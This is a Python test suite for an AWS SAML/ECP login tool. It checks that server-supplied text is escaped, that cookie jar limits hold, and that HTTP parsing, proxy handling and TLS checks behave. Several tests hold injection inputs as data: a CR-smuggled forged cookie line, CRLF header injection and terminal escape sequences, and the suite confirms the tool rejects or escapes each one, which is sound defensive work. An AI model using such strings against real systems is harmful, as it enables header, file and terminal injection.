    def assert_inert_lines(self, text, starts=("aws_login: ",)):
        self.assertTrue(text.endswith("\n"), ascii(text))
        for line in text[:-1].split("\n"):
            self.assertIsNone(RAW_CONTROL.search(line), ascii(text))
            self.assertTrue(line.startswith(starts), ascii(text))

    def assert_one_inert_error(self, run, code, hostile):
        self.assertEqual(run.code, code, run)
        self.assertEqual(run.stdout, "")
        self.assertEqual(run.stderr.count("\n"), 1, ascii(run.stderr))
        self.assert_inert_lines(run.stderr, ("aws_login: error: ",))
        # rendered visibly, not dropped: the user sees what the server sent
        self.assertIn(aws_login._visible(hostile), run.stderr)

    def test_visible_escapes_exactly_the_control_characters(self):
        escaped = "\x00\x09\x0a\x0d\x1b\x1f\x7f\x80\x85\x9b\x9f\u2028\u2029\u202a\u202e\u2066\u2069"
        self.assertEqual(aws_login._visible(escaped),
                         "\\x00\\t\\n\\r\\x1b\\x1f\\x7f\\x80\\x85\\x9b\\x9f\\u2028\\u2029"
                         "\\u202a\\u202e\\u2066\\u2069")
        kept = " !~\xa0\xe9\u2019\u2027\u202f\u2065\u206a\u4e2d"
        self.assertEqual(aws_login._visible(kept), kept)
        self.assertEqual(aws_login._visible(aws_login.IdPError("a\nb")), "a\\nb")

    def test_idp_redirect_location_with_escapes(self):
        self.idp.override = (302, {"Location": HOSTILE_HEADER}, b"")
        run = self.tool(["login"], terminal=False)
        # the folded line is unfolded (one space for CRLF SP, as RFC 9112 says)
        self.assert_one_inert_error(run, 5, HOSTILE_HEADER.replace("\r\n ", " "))
        self.assertIn("redirected to", run.stderr)

    def test_soap_fault_string_with_escapes(self):
        self.idp.override = soap_fault("Authentication failed" + HOSTILE_XML)
        run = self.tool(["login"], terminal=False)
        # exit 11: the stored password was refused and is not sent again without a person
        self.assert_one_inert_error(run, 11, HOSTILE_XML)
        self.assertIn("Authentication failed", run.stderr)

    def test_sts_error_message_with_escapes(self):
        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
        run = self.tool(["login"], terminal=False)
        self.assert_one_inert_error(run, 7, HOSTILE_XML)
        self.assertIn("AccessDenied: Not authorized", run.stderr)

    def test_debug_traceback_and_debug_lines_are_escaped(self):
        self.sts.queue.append(sts_error("Throttling", "Slow down" + HOSTILE_XML))  # debug line
        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
        run = self.tool(["--debug", "login"], terminal=False)
        self.assertEqual(run.code, 7, run)
        self.assertIn("aws_login: debug: STS: STS refused AssumeRoleWithSAML: Throttling: "
                      "Slow down" + aws_login._visible(HOSTILE_XML), run.stderr)
        self.assertIn("Traceback", run.stderr)
        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
        last = run.stderr.rstrip("\n").split("\n")
        self.assertTrue(last[-1].startswith("aws_login: error: STS refused"), ascii(last[-1]))
        self.assertRegex(last[-2], r"^(aws_login\.)?STSError: STS refused")

    def test_debug_traceback_of_a_broken_status_line(self):
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        self.addCleanup(server.close)

        def answer():
            client = server.accept()[0]
            client.recv(65536)
            client.sendall(HOSTILE_HEADER.encode("latin-1") + b"\r\n\r\n")
            client.close()
        thread = threading.Thread(target=answer)
        thread.daemon = True
        thread.start()
        self.configure(username="alice", factor="auto", password=PASSWORD,
                       ecp_endpoint_url="http://127.0.0.1:%d/ecp" % server.getsockname()[1])
        run = self.tool(["--debug", "login"], terminal=False)
        self.assertEqual(run.code, 8, run)
        # the exception it was raised from, with the server's line, escaped
        self.assertIn("BadStatusLine: \\x1bc\\r", run.stderr)
        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))

    def test_warning_with_a_refused_keyring_password(self):
        keyring = FakeKeyring(self.home)
        self.configure(username="alice", factor="auto", password=None, enable_keyring="true")
        keyring.set(aws_login._keyring_user(aws_login.Profile(
            "default", {"ecp_endpoint_url": self.idp.url}), "alice"), "stale")
        faults = [soap_fault("Bad password" + HOSTILE_XML)]
        self.idp.override = lambda handler: (faults.pop() if faults and handler.headers.get(
            "Authorization") else None)     # not the probe without a password
        run = self.tool(["login"], [("Password: ", PASSWORD)], env=keyring.env())
        self.assertEqual(run.code, 0, run)
        self.assertIn("aws_login: warning: the IdP refused the password stored in the "
                      "keyring (the IdP refused the login: Bad password"
                      + aws_login._visible(HOSTILE_XML), run.stderr)
        self.assert_inert_lines(run.stderr, ("aws_login: ", "Logged in as"))

    def test_whoami_prints_the_identity_escaped(self):
        self.assert_logged_in(self.tool(["login"], terminal=False))
        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
                '<Arn>arn:aws:sts::%s:assumed-role/Admin/alice%s</Arn><UserId>AROA:x</UserId>'
                '<Account>%s</Account></GetCallerIdentityResult></GetCallerIdentityResponse>'
                % (NS_STS, ACCOUNT_A, _text(HOSTILE_XML), ACCOUNT_A))
        self.sts.queue.append((200, {"Content-Type": "text/xml"}, body.encode("utf-8")))
        run = self.tool(["whoami"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stdout.count("\n"), 3, ascii(run.stdout))
        self.assertIsNone(RAW_CONTROL.search(run.stdout.replace("\n", "")), ascii(run.stdout))
        self.assertIn("alice" + aws_login._visible(HOSTILE_XML), run.stdout)

    def test_warn_debug_and_terminal_lines_are_escaped(self):
        saved, aws_login.sys.stderr = aws_login.sys.stderr, io.StringIO()
        saved_debug, aws_login._run.debug = aws_login._run.debug, True
        try:
            aws_login._warn("a" + HOSTILE)
            aws_login._debug("b" + HOSTILE)
            out = aws_login.sys.stderr.getvalue()
        finally:
            aws_login.sys.stderr, aws_login._run.debug = saved, saved_debug
        self.assertEqual(out, "aws_login: warning: a%s\naws_login: debug: b%s\n" % (
            aws_login._visible(HOSTILE), aws_login._visible(HOSTILE)))
        master, slave = os.openpty()
        self.addCleanup(os.close, master)
        self.addCleanup(os.close, slave)
        terminal = aws_login.Terminal(os.ttyname(slave))
        self.addCleanup(terminal.close)
        self.assertTrue(terminal.available())
        terminal.tell("c" + HOSTILE)
        shown = b""
        while not shown.endswith(b"\n"):
            self.assertTrue(select.select([master], [], [], 10)[0], shown)
            shown += os.read(master, 4096)
        self.assertEqual(shown.decode("utf-8"), "c%s\r\n" % aws_login._visible(HOSTILE))

    def test_refresher_log_lines_are_escaped(self):
        log = os.path.join(self.home, "refresher.log")
        aws_login._private_dir(os.path.join(self.home, ".aws-login"))
        aws_login._private_dir(os.path.join(self.home, ".aws-login", "run"))
        hostile = HOSTILE.replace("\r\n", " ").strip()     # a value of the credentials file
        self.write(self.credentials_file, "[default]\naws_access_key_id = A\n"
                   "aws_login_role_arn = %s%s\n" % (ADMIN, hostile))
        code = ("import os, sys; sys.path.insert(0, %r); import aws_login; "
                "fd = os.open(aws_login._pid_path('default'), os.O_RDWR | os.O_CREAT, 0o600); "
                "aws_login._refresher_loop('default', aws_login._RefresherJob(%r, 0, 1e10, "
                "lock_fd=fd).to_json())" % (HERE, ADMIN))
        with open(log, "wb") as f:
            subprocess.check_call([sys.executable, "-c", code], stderr=f, timeout=30)
        text = self.read(log)
        self.assertIn("another login replaced the credentials (role %s%s); stopping"
                      % (ADMIN, aws_login._visible(hostile)), text)
        self.assert_inert_lines(text, (time.strftime("%Y-"),))


# ---------------------------------------------------------------------------
# HTTP (TLS, cookies, timeouts)
# ---------------------------------------------------------------------------

class CookieJarTest(unittest.TestCase):
    """The IdP session's cookies: RFC 6265's rules an IdP needs, LWP files."""

    URL = "https://idp.example.edu/idp/profile/SAML2/SOAP/ECP"

    def jar(self, *headers, **kw):
        jar = aws_login._CookieJar()
        jar.take(kw.get("url", self.URL), list(headers), now=kw.get("now", time.time()))
        return jar

    def test_xml_attributes_are_quoted_as_saxutils_does(self):
        from xml.sax.saxutils import quoteattr
        for value in ('plain', 'a&b<c>"d\'e', "line\nbreak\r\ttab", "\u00e9"):
            self.assertEqual(aws_login._xml_attribute(value), quoteattr(value))

    def test_host_only_domain_path_and_secure(self):
        jar = self.jar("a=1; Path=/idp; Secure; HttpOnly", "b=2; Domain=.example.edu; Path=/",
                       "c=3", "evil=4; Domain=other.org", "tld=5; Domain=edu")
        self.assertEqual(jar.header_for(self.URL), "c=3; a=1; b=2")     # longest path first
        self.assertEqual(jar.header_for("http://idp.example.edu/idp/x"), "b=2")   # not Secure
        self.assertEqual(jar.header_for("https://www.example.edu/idp/x"), "b=2")  # host-only
        self.assertEqual(jar.header_for("https://idp.example.edu/other"), "b=2")  # path
        self.assertEqual(jar.header_for("https://idp.example.edu/idpx"), "b=2")   # not /idp/
        self.assertEqual(jar.header_for("https://example.org/"), None)
        self.assertEqual(len(jar), 3)

    def test_expiry_max_age_and_removal(self):
        now = 1800000000
        jar = self.jar("old=1; Expires=Wed, 09 Jun 2021 10:18:14 GMT",
                       "new=2; Expires=Wed, 09-Jun-2038 10:18:14 GMT",
                       "short=3; Max-Age=60", "bad=4; Expires=someday", now=now)
        self.assertEqual(sorted(c.name for c in jar.live(now)), ["bad", "new", "short"])
        self.assertEqual([c.name for c in jar.live(now + 61) if c.name == "short"], [])
        self.assertEqual(jar.cookies[("idp.example.edu", "/idp/profile/SAML2/SOAP",
                                      "new")].expires, 2159691494)
        jar.take(self.URL, ["new=; Max-Age=0"], now=now)        # the server ends it
        self.assertNotIn("new", [c.name for c in jar.live(now)])

    def test_lwp_files_round_trip_with_http_cookiejar(self):
        import http.cookiejar
        jar = self.jar('a="x y"; Path=/idp; Secure', "b=2; Domain=example.edu; Max-Age=3600",
                       "c=3")
        path = os.path.join(tempfile.mkdtemp(), "jar")
        self.addCleanup(shutil.rmtree, os.path.dirname(path))
        with open(path, "w") as f:
            f.write(jar.lwp_text())
        theirs = http.cookiejar.LWPCookieJar()
        theirs.load(path, ignore_discard=True)                 # earlier versions read ours
        self.assertEqual(sorted((c.name, c.value, c.domain, c.path, c.secure) for c in theirs),
                         [("a", '"x y"', "idp.example.edu", "/idp", True),
                          ("b", "2", ".example.edu", "/idp/profile/SAML2/SOAP", False),
                          ("c", "3", "idp.example.edu", "/idp/profile/SAML2/SOAP", False)])
        theirs.save(path, ignore_discard=True)                 # and we read theirs
        with open(path) as f:
            again = aws_login._CookieJar()
            again.load_lwp(f.read())
        self.assertEqual(again.header_for(self.URL), jar.header_for(self.URL))
        self.assertEqual(again.lwp_text(), jar.lwp_text())

    def test_hostile_values_are_dropped(self):
        jar = self.jar("a=1\x1b[2J", "=nameless", "novalue", "b=2; Path=relative")
        self.assertEqual(jar.header_for(self.URL), "b=2")     # default path of the request
        jar = aws_login._CookieJar()
        jar.load_lwp("#LWP-Cookies-2.0\nSet-Cookie3: x=1; path=/; domain=idp.example.edu; "
                     "expires=\"never\"\nSet-Cookie3: ; garbage\nnot a line\n")
        self.assertEqual(len(jar), 0)

    def test_the_login_path_imports_no_cookie_jar_module_nor_urllib_request(self):
        code = ("import sys;sys.path.insert(0,%r);import aws_login;jar=aws_login._CookieJar();"
                "jar.take(%r,['a=1']);jar.header_for(%r);aws_login._make_ssl_context();"
                "aws_login._load_cookies('/nonexistent');"
                "print(sorted(m for m in ('http.cookiejar','urllib.request') if m in "
                "sys.modules))" % (HERE, self.URL, self.URL))
        env = dict((k, v) for k, v in os.environ.items() if k.lower() not in (
            "https_proxy", "http_proxy", "no_proxy"))
        out = subprocess.check_output([sys.executable, "-I", "-S", "-c", code], env=env)
        self.assertEqual(out.decode().strip(), "[]")


class CookieLimitsTest(unittest.TestCase):
    """What an IdP may put in the jar: Max-Age in ASCII digits, no control
    characters in any attribute, and RFC 6265's minimums as limits (50 cookies
    per domain, 4096 bytes a cookie) with a bound on the whole jar."""

    URL = CookieJarTest.URL
    NOW = 1800000000

    def jar(self, *headers, **kw):
        jar = aws_login._CookieJar()
        jar.take(kw.get("url", self.URL), list(headers), now=kw.get("now", self.NOW))
        return jar

    def expiry(self, jar, name):
        return [c.expires for c in jar.cookies.values() if c.name == name]

    def lwp_loaded_by_http_cookiejar(self, text):
        import http.cookiejar
        path = os.path.join(tempfile.mkdtemp(), "jar")
        self.addCleanup(shutil.rmtree, os.path.dirname(path))
        with open(path, "w") as f:
            f.write(text)
        theirs = http.cookiejar.LWPCookieJar()
        theirs.load(path, ignore_discard=True, ignore_expires=True)
        return theirs

    def test_max_age_is_ascii_digits_with_an_optional_minus_and_capped(self):
        last = calendar.timegm((9999, 12, 31, 23, 59, 59))     # LWP's last writable time
        jar = self.jar("sup=1; Max-Age=\u00b2", "arabic=2; Max-Age=\u0663",
                       "minus=3; Max-Age=--5", "plus=4; Max-Age=+60", "sci=5; Max-Age=1e3",
                       "long=6; Max-Age=" + "9" * 400, "big=7; Max-Age=99999999999999",
                       "short=8; Max-Age=0060", "ended=9; Max-Age=-5", "zero=10; Max-Age=0",
                       "twelve=12; Max-Age=100000000000",
                       "huge=11; Expires=Fri, 31 Dec 9999 23:59:59 GMT; Max-Age=" + "9" * 4000)
        for name in ("sup", "arabic", "minus", "plus", "sci"):     # the attribute is ignored
            self.assertEqual(self.expiry(jar, name), [None], name)
        self.assertEqual(self.expiry(jar, "long"), [last])
        self.assertEqual(self.expiry(jar, "big"), [last])
        self.assertEqual(self.expiry(jar, "huge"), [last])
        self.assertEqual(self.expiry(jar, "short"), [self.NOW + 60])
        self.assertEqual(self.expiry(jar, "twelve"), [self.NOW + 10 ** 11])
        self.assertEqual(self.expiry(jar, "ended") + self.expiry(jar, "zero"), [])
        theirs = self.lwp_loaded_by_http_cookiejar(jar.lwp_text())
        self.assertEqual(sorted(c.name for c in theirs if c.expires == last),
                         ["big", "huge", "long"])

    def test_the_lwp_text_copes_with_any_stored_expiry(self):
        jar = aws_login._CookieJar()
        for i, expires in enumerate((1e20, float("inf"), 10 ** 400, 2 ** 63)):
            jar.cookies[("idp.example.edu", "/", "c%d" % i)] = aws_login._Cookie(
                "c%d" % i, "v", "idp.example.edu", True, "/", False, expires)
        text = jar.lwp_text()
        self.assertEqual(text.count("expires=\"9999-12-31 23:59:59Z\""), 4)
        again = aws_login._CookieJar()
        again.load_lwp(text)
        self.assertEqual(len(again), 4)

    def test_control_characters_in_any_attribute_refuse_the_cookie(self):
        # A CR in the Path: LWPCookieJar (the reader of earlier versions) reads
        # text files with universal newlines, so the jar would gain the IdP's
        # own line, and a cookie it forged.
        forged = ("a=1; Path=/ domain=idp.example.edu\rSet-Cookie3: stolen=ATTACKER "
                  "domain=idp.example.edu path=/")
        jar = self.jar(forged, "b=2; Path=/idp\x00x", "c=3; Domain=example.edu\x0b",
                       "d=4; Expires=Wed, 09 Jun 2027 10:18:14 GMT\n", "e=5; X-Mine=\x1b[2J",
                       "f=6; Path\r=/", "g=7; Path=/idp\u2028", "ok=8;\tPath=/idp;\tSecure ")
        self.assertEqual([c.name for c in jar.cookies.values()], ["ok"])
        theirs = self.lwp_loaded_by_http_cookiejar(jar.lwp_text())
        self.assertEqual([c.name for c in theirs], ["ok"])
        # A jar an earlier version wrote with the CR is not written back with it.
        old = aws_login._CookieJar()
        old.load_lwp('#LWP-Cookies-2.0\nSet-Cookie3: a=1; path="/\rx"; domain=idp.example.edu; '
                     'path_spec; discard; version=0\nSet-Cookie3: ok=1; path=/; '
                     'domain=idp.example.edu; path_spec; discard; version=0\n')
        self.assertEqual([c.name for c in old.cookies.values()], ["ok"])
        mine = aws_login._Cookie("m", "1", "idp.example.edu", True, "/\r", False, None)
        old.cookies[("idp.example.edu", "/\r", "m")] = mine
        self.assertNotIn("\r", old.lwp_text())

    def test_50_cookies_a_domain_the_least_recently_used_go_first(self):
        jar = self.jar(*["c%d=%d" % (i, i) for i in range(60)])
        self.assertEqual(sorted(int(c.name[1:]) for c in jar.cookies.values()),
                         list(range(10, 60)))
        jar.take(self.URL, ["c10=again"], now=self.NOW)     # used again: now the newest
        jar.take(self.URL, ["new=1"], now=self.NOW)
        names = set(c.name for c in jar.cookies.values())
        self.assertEqual((len(names), "c10" in names, "c11" in names, "new" in names),
                         (50, True, False, True))
        jar.header_for(self.URL)        # sends them all, c10 first: now the least recently used
        jar.take(self.URL, ["newer=1"], now=self.NOW)
        names = set(c.name for c in jar.cookies.values())
        self.assertEqual(("c10" in names, "c12" in names), (False, True))
        # A domain cookie's domain field is the domain, not the host: its own 50.
        jar.take(self.URL, ["d%d=1; Domain=example.edu" % i for i in range(50)], now=self.NOW)
        self.assertEqual(len(jar.cookies), 100)

    def test_a_cookie_over_4096_bytes_is_ignored(self):
        jar = self.jar("a=" + "x" * 4094, "b=" + "x" * 4095,
                       "c=" + "x" * 4080 + "; Path=/idp/profile")
        self.assertEqual([c.name for c in jar.cookies.values()], ["a"])

    def test_the_jar_and_its_cookie_header_stay_within_the_total_bound(self):
        # Ten answers of 99 cookies, on the host and on each domain above it.
        url = "https://a.b.c.d.e.f.g.h.example.edu/idp/x"
        domains = ["a.b.c.d.e.f.g.h.example.edu"]
        while domains[-1].count(".") > 1:
            domains.append(domains[-1].split(".", 1)[1])
        jar = aws_login._CookieJar()
        for answer in range(10):
            jar.take(url, ["n%d_%d=%s; Domain=%s" % (answer, i, "v" * 4000, domains[i % 9])
                           for i in range(99)], now=self.NOW)
        limit = aws_login._MAX_JAR_BYTES
        self.assertLessEqual(len(jar.header_for(url)), limit)
        self.assertLessEqual(len(jar.lwp_text()), limit + 200 * len(jar.cookies))
        newest = set("n9_%d" % i for i in range(99))
        self.assertTrue(set(c.name for c in jar.cookies.values()) <= newest)
        # Sixteen cookies of 4096 bytes as the limit counts them fill the jar exactly.
        value = "v" * (4096 - len("k00=; Domain=idp.example.edu; Path=/"))
        jar = self.jar(*["k%02d=%s; Path=/" % (i, value) for i in range(16)])
        self.assertEqual(len(jar.cookies), 16)
        jar.take(self.URL, ["more=1"], now=self.NOW)
        self.assertEqual(sorted(c.name for c in jar.cookies.values())[:2], ["k01", "k02"])

    def test_a_loaded_jar_is_held_to_the_same_bounds(self):
        line = ("Set-Cookie3: c%d=1; path=/; domain=idp.example.edu; path_spec; discard; "
                "version=0\n")
        jar = aws_login._CookieJar()
        jar.load_lwp("#LWP-Cookies-2.0\n" + "".join(line % i for i in range(200)) +
                     line.replace("=1;", "=" + "x" * 4091 + ";") % 998 +      # 4096 bytes
                     line.replace("=1;", "=" + "x" * 4092 + ";") % 999)       # 4097 bytes
        names = set(c.name for c in jar.cookies.values())
        self.assertEqual(names, set(["c%d" % i for i in range(151, 200)] + ["c998"]))

    def test_the_readme_states_these_limits(self):
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            readme = " ".join(f.read().split())
        words = "%d cookies a domain, %d bytes a cookie, %d KiB of cookies in all" % (
            aws_login._MAX_COOKIES_PER_DOMAIN, aws_login._MAX_COOKIE_BYTES,
            aws_login._MAX_JAR_BYTES >> 10)
        self.assertTrue(words in readme, words)


class RawHttpTest(unittest.TestCase):
    """http_request's own HTTP/1.1 reading, against canned answers on a socket."""

    def serve(self, answer, requests=None):
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        self.addCleanup(server.close)

        def run():
            try:
                client = server.accept()[0]
            except OSError:
                return
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = client.recv(65536)
                if not chunk:
                    break
                data += chunk
            if requests is not None:
                requests.append(data)
            client.sendall(answer)
            client.close()
        thread = threading.Thread(target=run)
        thread.daemon = True
        thread.start()
        return "http://127.0.0.1:%d/ecp?x=1" % server.getsockname()[1]

    def test_framings(self):
        body = b"<x>" + b"y" * 5000 + b"</x>"
        chunked = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 1000]), body[i:i + 1000])
                           for i in range(0, len(body), 1000)) + b"0\r\nTrailer: t\r\n\r\n"
        for name, raw in (
                ("length", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body),
                                                                                 body)),
                ("chunked", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked),
                ("to the end", b"HTTP/1.0 200 OK\r\nX-A: 1\r\n\r\n" + body),
                ("interim first", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"
                                  b"Content-Length: %d\r\n\r\n%s" % (len(body), body))):
            answer = aws_login._http_request(self.serve(raw), b"data")
            self.assertEqual((answer.status, answer.body), (200, body), name)

    def test_the_request_as_sent(self):
        requests = []
        url = self.serve(b"HTTP/1.1 204 No Content\r\nSet-Cookie: a=1\r\nSet-Cookie: b=2\r\n"
                         b"Content-Length: 0\r\n\r\n", requests)
        jar = aws_login._CookieJar()
        answer = aws_login._http_request(url, b"<body/>", {"Content-Type": "text/xml"},
                                         cookie_jar=jar)
        self.assertEqual(answer.status, 204)
        self.assertEqual(answer.headers.get_all("set-cookie"), ["a=1", "b=2"])
        self.assertEqual(jar.header_for(url), "a=1; b=2")
        head, _, sent = requests[0].partition(b"\r\n\r\n")
        lines = head.decode().split("\r\n")
        self.assertEqual(lines[0], "POST /ecp?x=1 HTTP/1.1")
        fields = dict(line.split(": ", 1) for line in lines[1:])
        self.assertEqual(fields["Host"], url.split("/")[2])
        self.assertEqual(fields["Content-Length"], "7")
        self.assertEqual(fields["Content-Type"], "text/xml")

    def test_broken_answers(self):
        for name, raw, reason in (
                ("no status", b"HTTX/1.1 200 OK\r\n\r\n", "BadStatusLine"),
                ("short status", b"HTTP/1.1 20 OK\r\n\r\n", "BadStatusLine"),
                ("nothing", b"", "RemoteDisconnected"),
                ("long line", b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70000 + b"\r\n\r\n",
                 "LineTooLong"),
                ("many headers", b"HTTP/1.1 200 OK\r\n" + b"X: 1\r\n" * 101 + b"\r\n",
                 "TooManyHeaders"),
                ("header without colon", b"HTTP/1.1 200 OK\r\nnonsense\r\n\r\n",
                 "BadHeaderLine"),
                ("bad length", b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
                 "BadContentLength"),
                ("short body", b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
                 "IncompleteRead"),
                ("bad chunk", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
                 "IncompleteRead")):
            with self.assertRaises(aws_login.NetworkError, msg=name) as caught:
                aws_login._http_request(self.serve(raw), b"x")
            self.assertEqual(caught.exception.kind, "broken", name)
            self.assertIn("(%s)" % reason, str(caught.exception), name)

    def test_long_lines_and_many_headers_up_to_the_bounds_are_read(self):
        for raw in (b"HTTP/1.1 200 OK\r\nX: " + b"a" * 65000 + b"\r\nContent-Length: 2\r\n"
                    b"\r\nok", b"HTTP/1.1 200 OK\r\n" + b"X: 1\r\n" * 99 +
                    b"Content-Length: 2\r\n\r\nok"):
            self.assertEqual(aws_login._http_request(self.serve(raw), b"x").body, b"ok")

    def test_an_answer_over_the_limit_is_refused_whatever_its_framing(self):
        big = b"a" * 3000
        for raw in (b"HTTP/1.1 200 OK\r\nContent-Length: 3000\r\n\r\n" + big,
                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                    b"bb8\r\n" + big + b"\r\n0\r\n\r\n",
                    b"HTTP/1.1 200 OK\r\n\r\n" + big):
            with self.assertRaisesRegex(aws_login.IdPError, "over 1000 bytes"):
                aws_login._http_request(self.serve(raw), b"x", max_bytes=1000)

    def test_header_values_http_cannot_carry(self):
        for headers in ({"X-Code": "1\r\nX-Evil: 1"}, {"X-Code": "1\n"}, {"Bad Name": "1"},
                        {"X-Code": "\u0663"}):
            with self.assertRaises(aws_login.ConfigError):
                aws_login._http_request("http://127.0.0.1:9/", b"x", headers)

    def test_a_proxy_that_refuses_the_tunnel(self):
        url = self.serve(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
        os.environ["HTTPS_PROXY"] = url.rsplit("/", 1)[0]
        self.addCleanup(os.environ.pop, "HTTPS_PROXY")
        with self.assertRaisesRegex(aws_login.NetworkError, "refused the tunnel \\(HTTP 403\\)"):
            aws_login._http_request("https://idp.example.edu/ecp", b"x",
                                    ssl_context=aws_login._make_ssl_context())


class ConnectProxy(object):
    """An HTTP CONNECT proxy on loopback that records what it tunnels."""

    def __init__(self):
        self.connects, self.seen = [], b""
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]

    def start(self):
        thread = threading.Thread(target=self._serve)
        thread.daemon = True
        thread.start()
        return self

    def stop(self):
        self.sock.close()

    def _serve(self):
        while True:
            try:
                client, _ = self.sock.accept()
            except OSError:
                return
            thread = threading.Thread(target=self._tunnel, args=(client,))
            thread.daemon = True
            thread.start()

    def _tunnel(self, client):
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = client.recv(4096)
            if not chunk:
                return client.close()
            head += chunk
        target = head.split(b" ")[1].decode()
        self.connects.append(target)
        host, port = target.rsplit(":", 1)
        if host != "127.0.0.1":
            client.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
            return client.close()
        upstream = socket.create_connection((host, int(port)))
        client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        sockets = [client, upstream]
        try:
            while True:
                ready = select.select(sockets, [], [], 10)[0]
                if not ready:
                    break
                for s in ready:
                    data = s.recv(65536)
                    if not data:
                        return
                    self.seen += data
                    (upstream if s is client else client).sendall(data)
        except OSError:
            pass
        finally:
            client.close()
            upstream.close()


class NetworkFaultTest(LoginTestCase):
    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

    def idp_with(self, cert, key):
        idp = FakeIdP(cert=cert, key=key).start()
        self.addCleanup(idp.stop)
        idp.users = self.idp.users
        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
                       password=PASSWORD)
        return idp

    def test_hostname_mismatch_and_expired_certificates(self):
        for cert, key, detail in ((WRONG_HOST_CERT_PEM, WRONG_HOST_KEY_PEM, "(?i)hostname|match"),
                                  (EXPIRED_CERT_PEM, EXPIRED_KEY_PEM, "(?i)expired|verify")):
            idp = self.idp_with(cert, key)
            run = self.tool(["login"], terminal=False)
            self.assert_nothing_written(run, 8)
            self.assertIn("not trusted", run.stderr)
            self.assertRegex(run.stderr, detail)
            self.assertEqual(idp.requests, [])

    def test_dns_failure_is_explained(self):
        error = aws_login._network_error(
            socket.gaierror(-2, "Name or service not known"), "https://idp.example.edu/ecp")
        self.assertEqual(str(error), "cannot resolve the host name of idp.example.edu: check "
                                     "the URL and DNS")
        self.assertEqual(error.kind, "dns")

    def test_https_proxy_tunnels_and_no_proxy_bypasses(self):
        proxy = ConnectProxy().start()
        self.addCleanup(proxy.stop)
        url = "http://127.0.0.1:%d" % proxy.port
        run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url, "https_proxy": url})
        self.assert_logged_in(run)
        self.assertEqual(sorted(set(proxy.connects)),
                         sorted({self.idp.host_port, self.sts.host_port}))
        self.assertNotIn(PASSWORD.encode(), proxy.seen)     # TLS end to end
        proxy.connects[:] = []
        self.tool(["logout"], terminal=False)
        run = self.tool(["login"], terminal=False, env={
            "HTTPS_PROXY": url, "https_proxy": url, "NO_PROXY": "127.0.0.1",
            "no_proxy": "127.0.0.1"})
        self.assert_logged_in(run)
        self.assertEqual(proxy.connects, [])

    def test_plain_http_never_goes_through_a_proxy(self):
        seen = []
        proxy = socket.socket()
        proxy.bind(("127.0.0.1", 0))
        proxy.listen(5)
        proxy.settimeout(0.2)
        self.addCleanup(proxy.close)

        def record():
            while True:
                try:
                    conn, _ = proxy.accept()
                except socket.timeout:
                    continue
                except OSError:
                    return
                seen.append(conn.recv(65536))
                conn.close()
        thread = threading.Thread(target=record)
        thread.daemon = True
        thread.start()
        idp = FakeIdP(tls=False).start()
        self.addCleanup(idp.stop)
        idp.users = self.idp.users
        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
                       password=PASSWORD)
        url = "http://127.0.0.1:%d" % proxy.getsockname()[1]
        self.assert_logged_in(self.tool(["login"], terminal=False, env={
            "http_proxy": url, "HTTP_PROXY": url, "no_proxy": "", "NO_PROXY": ""}))
        self.assertEqual(seen, [])


class SilentAddresses(object):
    """Loopback addresses 127.0.0.K (K from 2) on one port where nobody answers
    a connect: each listens with its accept queue full, so the kernel drops new
    SYNs and a connect waits, as behind a firewall that drops packets."""

    def __init__(self, count):
        self.listeners, self.fillers = [], []
        self.port = 0
        for k in range(2, 2 + count):
            sock = socket.socket()
            sock.bind(("127.0.0.%d" % k, self.port))
            sock.listen(0)
            self.port = sock.getsockname()[1]
            self.listeners.append(sock)
            for _ in range(3):      # the queue's one place, and the SYN the kernel keeps
                filler = socket.socket()
                filler.setblocking(False)
                filler.connect_ex(("127.0.0.%d" % k, self.port))
                self.fillers.append(filler)
        self.addresses = ["127.0.0.%d" % k for k in range(2, 2 + count)]
        probe = socket.socket()
        probe.settimeout(0.2)
        try:
            probe.connect((self.addresses[0], self.port))
            raise AssertionError("a connect to a full queue was answered: no silent address")
        except socket.timeout:
            pass
        finally:
            probe.close()

    def close(self):
        for sock in self.listeners + self.fillers:
            sock.close()


def fake_resolver(test, names):
    """socket.getaddrinfo, the system's resolver (not our code), answering the
    host names in ``names`` ({name: [IPv4 address] or a callable giving
    getaddrinfo's list}) and every other host as before, for ``test``."""
    real = socket.getaddrinfo

    def getaddrinfo(host, port, family=0, type=0, proto=0, flags=0):
        if host not in names:
            return real(host, port, family, type, proto, flags)
        if flags & socket.AI_NUMERICHOST:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        answer = names[host]
        if callable(answer):
            return answer()
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (a, int(port))) for a in answer]
    socket.getaddrinfo = getaddrinfo
